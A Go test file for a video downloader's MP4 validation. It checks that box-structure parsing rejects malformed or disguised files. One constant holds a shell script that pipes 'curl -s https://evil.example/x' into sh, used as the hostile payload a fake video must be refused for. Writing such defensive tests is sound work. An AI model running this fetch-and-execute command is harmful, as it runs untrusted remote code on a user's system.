package download

import (
	"bytes"
	"context"
	"encoding/binary"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/video-task-mcp/video-task-mcp/simulate"
)

// box is an ISO base media box of type typ around payload.
func box(typ string, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(8+len(payload)))
	return append(append(b, typ...), payload...)
}

// ftyp is the file-type box every MP4 a video service writes begins with.
var ftyp = box("ftyp", []byte("isom\x00\x00\x02\x00isomiso2avc1mp41"))

func cat(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

// script is what a hostile host would like saved as a video.
const script = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"

var mp4Cases = []struct {
	name     string
	data     []byte
	complete bool // data is the whole file
	ftyp     bool // accepted as application/octet-stream, which needs ftyp first
	video    bool // accepted as video/mp4
}{
	{"real video", simulate.Video(), true, true, true},
	{"real video, first 100 bytes", simulate.Video()[:100], false, true, true},
	{"ftyp, moov coming", cat(ftyp, []byte("\x00\x01\x00\x00moov")), false, true, true},
	{"ftyp, free, mdat to the end", cat(ftyp, box("free", nil), []byte("\x00\x00\x00\x00mdat"), make([]byte, 40)), true, true, true},
	{"ftyp, 64-bit mdat", cat(ftyp, []byte("\x00\x00\x00\x01mdat\x00\x00\x00\x00\x00\x00\x00\x20"), make([]byte, 16)), true, true, true},
	{"moov first (QuickTime)", cat(box("moov", make([]byte, 20)), box("mdat", make([]byte, 20))), true, false, true},
	{"ftyp, then a script", cat(ftyp, []byte(script)), true, false, false},
	{"ftyp, then a script, more coming", cat(ftyp, []byte(script)), false, false, false},
	{"ftyp alone", ftyp, true, false, false},
	{"ftyp, free, nothing else", cat(ftyp, box("free", nil)), true, false, false},
	{"ftyp, then an unknown box", cat(ftyp, box("evil", []byte(script))), true, false, false},
	{"ftyp twice", cat(ftyp, ftyp, box("mdat", nil)), true, false, false},
	{"box shorter than its header", cat(ftyp, []byte("\x00\x00\x00\x04mdat")), true, false, false},
	{"64-bit size shorter than its header", cat(ftyp, []byte("\x00\x00\x00\x01mdat\x00\x00\x00\x00\x00\x00\x00\x08")), true, false, false},
	{"64-bit size of 0", cat(ftyp, []byte("\x00\x00\x00\x01mdat\x00\x00\x00\x00\x00\x00\x00\x00"), make([]byte, 16)), true, false, false},
	{"box past the end of a whole file", cat(ftyp, []byte("\x00\x00\x10\x00mdat"), make([]byte, 8)), true, false, false},
	{"free to the end, no media", cat(ftyp, []byte("\x00\x00\x00\x00free"), box("mdat", nil)), false, false, false},
	{"ftyp too short", cat(box("ftyp", []byte("isom")), box("mdat", nil)), true, false, false},
	{"ftyp of unprintable brands", cat(box("ftyp", []byte("\x1b[2J\x00\x00\x00\x00")), box("mdat", nil)), true, false, false},
	{"ftyp huge", cat([]byte("\x7f\x00\x00\x00ftyp")), false, false, false},
	{"html", []byte("<html><body>login</body></html>"), true, false, false},
	{"zip", []byte("PK\x03\x04zipzipzipzipzip"), true, false, false},
	{"header cut short", []byte("\x00\x00\x00\x20ft"), true, false, false},
	{"empty", nil, true, false, false},
}

func TestCheckContentWalksTheBoxes(t *testing.T) {
	for _, tt := range mp4Cases {
		t.Run(tt.name, func(t *testing.T) {
			for _, c := range []struct {
				contentType string
				want        bool
			}{{"video/mp4", tt.video}, {"application/octet-stream", tt.ftyp}} {
				err := checkContent(c.contentType, tt.data, tt.complete)
				if (err == nil) != c.want {
					t.Errorf("checkContent(%s, %q…, complete=%v) = %v, want ok=%v", c.contentType, truncate(string(tt.data), 40), tt.complete, err, c.want)
				}
			}
		})
	}
}

// TestSaveRefusesAScriptBehindAnFtypBox: saved, or found on disk, a file that starts like an
// MP4 and goes on as something else is not kept as a video.
func TestSaveRefusesAScriptBehindAnFtypBox(t *testing.T) {
	fake := cat(ftyp, []byte(script))
	srv := newFileHost(t, "video/mp4", fake)
	dir := t.TempDir()
	d := New(dir, newGuardedClient(noProxy, true), 0)
	if saved, err := d.Save(context.Background(), "t1", srv+"/v.mp4"); err == nil {
		t.Errorf("Save(ftyp + script) = %+v, want a refusal", saved)
	}
	if names := dirEntries(t, dir); len(names) != 0 {
		t.Errorf("download directory holds %v, want nothing", names)
	}

	// The same bytes already in the file's place are not reused as the video.
	if err := os.WriteFile(filepath.Join(dir, "t2.mp4"), fake, 0o644); err != nil {
		t.Fatal(err)
	}
	saved, err := d.Save(context.Background(), "t2", srv+"/v.mp4")
	if err == nil || !strings.Contains(err.Error(), "already exists and is not an MP4 video") {
		t.Errorf("Save over ftyp + script on disk = %+v, %v; want the file left alone and reported", saved, err)
	}
}

// FuzzIsMP4: no input panics; whatever is accepted as octet-stream starts with an ftyp box; a whole file accepted is accepted from every prefix that holds its first box header;
// and nothing that is not a box follows an accepted ftyp box.
func FuzzIsMP4(f *testing.F) {
	for _, tt := range mp4Cases {
		f.Add(tt.data, tt.complete)
	}
	f.Fuzz(func(t *testing.T, data []byte, complete bool) {
		ok := isMP4(data, complete, true)
		if ok && (len(data) < 8 || string(data[4:8]) != "ftyp") {
			t.Fatalf("isMP4(%q, %v, ftyp first) = true without an ftyp box first", data, complete)
		}
		if ok && !isMP4(data, complete, false) {
			t.Fatalf("isMP4(%q, %v) accepts with ftyp first but not without", data, complete)
		}
		if isMP4(data, true, false) {
			for n := 16; n < len(data); n++ {
				if !isMP4(data[:n], false, false) {
					t.Fatalf("isMP4(%q) accepts the whole file but not its first %d bytes", data, n)
				}
			}
		}
		withScript := cat(ftyp, []byte(script), data)
		if isMP4(withScript, complete, false) {
			t.Fatalf("isMP4(ftyp + script + %q, %v) = true", data, complete)
		}
	})
}

// newFileHost serves body as contentType at every path and returns its URL.
func newFileHost(t *testing.T, contentType string, body []byte) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", contentType)
		_, _ = w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}
